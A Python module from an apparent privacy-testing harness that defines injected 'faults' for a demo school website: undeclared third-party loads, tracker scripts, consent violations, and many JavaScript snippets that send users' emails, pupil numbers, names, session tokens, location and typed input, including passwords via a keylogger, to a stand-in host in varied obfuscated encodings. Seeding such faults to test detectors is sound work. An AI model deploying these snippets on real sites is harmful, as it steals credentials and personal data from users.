"""What the faults put into a page: one table, fault → markup or script.

Rows are Jinja texts; they may use `me` (the signed-in person's own data, None for a visitor), `consent`, `token` and
the filters of `rendering.py`. A row shows only where it says: `everywhere`, `signed-in`, or on the `start` page.
"""

from __future__ import annotations

from harness.sandbox.demo import hosts
from harness.sandbox.demo.behaviour import BEHAVIOUR
from harness.sandbox.demo.leaving import LEAVING
from harness.sandbox.demo.snippet import Snippet, file, picture, script

__all__ = ["SNIPPETS", "Snippet"]

_METER = f"https://{hosts.METER}/melding"
_KEEP = "keepalive: true"
# A fetch whose answer nobody reads stays open in the browser for as long as the page lives.
_READ = ".then((answer) => answer.text())"

_UNDECLARED = {
    "font-undeclared": Snippet(
        "everywhere", f'<link rel="stylesheet" href="https://{hosts.FONT_CSS}/leesletter.css">'
    ),
    "library-undeclared": file("everywhere", f"https://{hosts.LIBRARY}/hulpjes.js"),
    "stats-undeclared": script(
        "everywhere", f'fetch("https://{hosts.STATS}/tel", {{method: "POST", body: "1"}}){_READ};'
    ),
    "redirect-undeclared": Snippet(
        "everywhere", f'<img src="https://{hosts.CDN}/door/teller.gif" alt="" width="1" height="1">'
    ),
    "worker-undeclared": script("everywhere", 'navigator.serviceWorker.register("/sw.js");'),
    "websocket-undeclared": script(
        "everywhere",
        f'const line = new WebSocket("wss://{hosts.CHAT}/klas");\nline.onopen = () => line.send("hallo");',
    ),
    # No data channel and no candidate handler: this is a stray address lookup, not a fingerprint.
    "stun-undeclared": script("everywhere", f"""
const call = new RTCPeerConnection({{iceServers: [{{urls: "stun:{hosts.STUN}:3478"}}]}});
call.addTransceiver("audio");
await call.setLocalDescription(await call.createOffer());
"""),
}

_TRACKERS = {
    "ad-script": file("everywhere", f"https://{hosts.ADS}/tag/js/gpt.js"),
    "cookie-sync": Snippet(
        "everywhere", f'<img src="https://{hosts.SYNC[0]}/getuid" alt="" width="1" height="1">'
    ),
    "analytics-script": file("everywhere", f"https://{hosts.TAGS}/gtag/js?id=G-DEMOSCHOOL"),
    "hides-from-tools": script("everywhere", f"""
if (!navigator.webdriver && !/Headless/.test(navigator.userAgent)) new Image().src = "https://{hosts.SHY}/action/0";
"""),
    "social-pixel": file("everywhere", f"https://{hosts.SOCIAL}/nl_NL/fbevents.js"),
    "replay-masked": file("everywhere", f"https://{hosts.REPLAY}/c/hotjar-3141592.js?sv=6"),
    "replay-unmasked": file("everywhere", f"https://{hosts.REPLAY_FULL}/projects/2718281.js"),
    "cname-cloak": Snippet(
        "everywhere", f'<script src="https://{hosts.CLOAK}/mee.js" nonce="{{{{ nonce }}}}" async></script>'
    ),
}

_REMEMBER = 'localStorage.getItem("%s") ?? localStorage.setItem("%s", crypto.randomUUID());'

_CONSENT = {
    "storage-before-choice": script("everywhere", _REMEMBER % ("bezoeker", "bezoeker")),
    "storage-after-refusal": script(
        "everywhere", "{% if consent == 'nodig' %}" + _REMEMBER % ("terugkeer", "terugkeer") + "{% endif %}"
    ),
    "video-after-refusal": Snippet(
        "everywhere",
        "{% if consent == 'nodig' %}"
        f'<script src="https://{hosts.VIDEO}/speler.js" async></script>'
        "{% endif %}",
    ),
    "embed-without-click": Snippet(
        "everywhere",
        f'<iframe src="https://{hosts.VIDEO}/embed/welkom" title="Welkomstvideo" width="320" height="180"></iframe>',
    ),
}

_LEAKS = {
    "leak-query-plain": picture(_METER + "?mail={{ me.email }}"),
    "leak-query-encoded": picture(_METER + "?mail={{ me.email|urlencode }}"),
    "leak-path": script("signed-in", f"""
if (me.pupil_number) fetch("{_METER}/" + me.pupil_number, {{{_KEEP}}}){_READ};
"""),
    "leak-base64": picture(_METER + "?u={{ me.email|base64|urlencode }}"),
    "leak-base64url": picture(_METER + "?u={{ me.email|base64url }}"),
    "leak-hex": picture(_METER + "?u={{ me.email|hex }}"),
    "leak-md5": picture(_METER + "/portret/{{ me.email|trim|lower|md5 }}"),
    "leak-sha1": picture(_METER + "?u={{ me.email|trim|lower|sha1 }}"),
    "leak-sha256": picture(_METER + "?u={{ me.email|trim|lower|sha256 }}"),
    "leak-sha256-upper": picture(_METER + "?u={{ me.email|trim|upper|sha256 }}"),
    "leak-name-sha256": picture(_METER + "?u={{ me.last_name|trim|lower|sha256 }}"),
    "leak-json-body": script("signed-in", f"""
if (me.pupil_number) {{
  const body = JSON.stringify({{soort: "bezoek", wie: {{nummer: me.pupil_number}}}});
  fetch("{_METER}", {{method: "POST", headers: {{"content-type": "application/json"}}, body, {_KEEP}}}){_READ};
}}
"""),
    "leak-form-body": script("signed-in", f"""
fetch("{_METER}", {{method: "POST", body: new URLSearchParams({{naam: me.first_name}}), {_KEEP}}}){_READ};
"""),
    "leak-header": script("signed-in", f"""
fetch("{_METER}", {{headers: {{"x-gebruiker": me.first_name}}, {_KEEP}}}){_READ};
"""),
    "leak-beacon": script("signed-in", f'navigator.sendBeacon("{_METER}", JSON.stringify({{mail: me.email}}));'),
    "leak-websocket": script("signed-in", f"""
const line = new WebSocket("wss://{hosts.METER}/stroom");
line.onopen = () => line.send(JSON.stringify({{mail: me.email}}));
"""),
    "leak-gzip": script("signed-in", f"""
const packed = new Blob([JSON.stringify({{mail: me.email}})]).stream().pipeThrough(new CompressionStream("gzip"));
const body = await new Response(packed).arrayBuffer();
fetch("{_METER}", {{method: "POST", headers: {{"content-type": "application/octet-stream"}}, body, {_KEEP}}}){_READ};
"""),
    "leak-base64-json": script("signed-in", f"""
fetch("{_METER}?data=" + encodeURIComponent(btoa(JSON.stringify({{mail: me.email}}))), {{{_KEEP}}}){_READ};
"""),
    "leak-base64-twice": script("signed-in", f"""
if (me.pupil_number) fetch("{_METER}?w=" + encodeURIComponent(btoa(btoa(me.pupil_number))), {{{_KEEP}}}){_READ};
"""),
    "leak-deflate": script("signed-in", f"""
if (me.pupil_number) {{
  const text = JSON.stringify({{soort: "bezoek", nummer: me.pupil_number}});
  const packed = new Blob([text]).stream().pipeThrough(new CompressionStream("deflate-raw"));
  const body = await new Response(packed).arrayBuffer(), headers = {{"content-type": "application/x-bezoek"}};
  fetch("{_METER}", {{method: "POST", headers, body, {_KEEP}}}){_READ};
}}
"""),
    "leak-multipart": script("signed-in", f"""
const body = new FormData();
body.append("naam", new Blob([me.last_name]), "naam.txt");
fetch("{_METER}", {{method: "POST", body, {_KEEP}}}){_READ};
"""),
    "leak-protobuf": script("signed-in", f"""
const text = (number, words) => {{
  const raw = new TextEncoder().encode(words);
  return [number << 3 | 2, raw.length, ...raw];
}};
const body = new Uint8Array([...text(1, "bezoek"), ...text(2, me.last_name)]);
const headers = {{"content-type": "application/x-protobuf"}};
fetch("{_METER}", {{method: "POST", headers, body, {_KEEP}}}){_READ};
"""),
    "leak-fragment": script("signed-in", f"""
const plaats = new URL("/start#wie=" + encodeURIComponent(me.last_name), location.href).href;
fetch("{_METER}", {{method: "POST", body: JSON.stringify({{plaats}}), {_KEEP}}}){_READ};
"""),
    "leak-email-in-token": picture(_METER + "?id_token={{ me.email|token }}"),
    "leak-session-token": script("signed-in", f"""
const sessie = {{{{ token|tojson }}}};
fetch("{_METER}", {{method: "POST", body: JSON.stringify({{soort: "bezoek", sessie}}), {_KEEP}}}){_READ};
"""),
    "leak-cookie": script("signed-in", f"""
const first = new Image(), second = new Image();
first.onload = () => {{ second.src = "https://{hosts.METER_BARE}/klok.gif"; }};
const covered = [...me.email].map((letter) => (letter.charCodeAt(0) ^ {hosts.COVER}).toString(16).padStart(2, "0"));
first.src = "https://{hosts.METER_BARE}/start.gif?u=" + covered.join("");
"""),
    "key-logger": script("signed-in", f"""
document.addEventListener("input", (event) => navigator.sendBeacon("{_METER}", event.target.value));
"""),
    "password-logger": script("everywhere", f"""
document.addEventListener("input", (event) => {{
  if (event.target.type === "password") navigator.sendBeacon("{_METER}", event.target.value);
}});
"""),
}

_OWN = {
    "mixed-image": Snippet(
        "everywhere", f'<img src="http://{hosts.STATIC}/static/sterren.svg" alt="" width="24" height="24">'
    ),
    "name-in-query": script(
        "signed-in", f'fetch("/api/homework?naam=" + encodeURIComponent(me.first_name)){_READ};'
    ),
    "canary-in-storage": script("signed-in", 'localStorage.setItem("profiel", JSON.stringify(me));'),
    "token-in-storage": script("signed-in", 'localStorage.setItem("sessie", {{ token|tojson }});'),
    "geo-at-start": script("start", "navigator.geolocation.getCurrentPosition(() => {}, () => {});"),
    "geo-to-own-api": script("start", """
navigator.geolocation.getCurrentPosition(({coords}) => fetch("/api/plaats", {
  method: "POST", keepalive: true, headers: {"content-type": "application/json", "x-csrf-token": csrf},
  body: JSON.stringify({lat: coords.latitude, lon: coords.longitude}),
}), () => {});
"""),
    # On every page: the browser may take longer to find the place than a journey stays on one.
    "geo-to-third-party": script("signed-in", f"""
navigator.geolocation.getCurrentPosition(({{coords}}) => fetch(
  `{_METER}?lat=${{coords.latitude}}&lon=${{coords.longitude}}`, {{{_KEEP}}}){_READ}, () => {{}});
"""),
    "camera-at-start": script("start", "await navigator.mediaDevices.getUserMedia({video: true}).catch(() => {});"),
    "microphone-at-start": script(
        "start", "await navigator.mediaDevices.getUserMedia({audio: true}).catch(() => {});"
    ),
}

SNIPPETS: dict[str, Snippet] = {
    **_UNDECLARED, **_TRACKERS, **BEHAVIOUR, **_CONSENT, **_LEAKS, **_OWN, **LEAVING
}
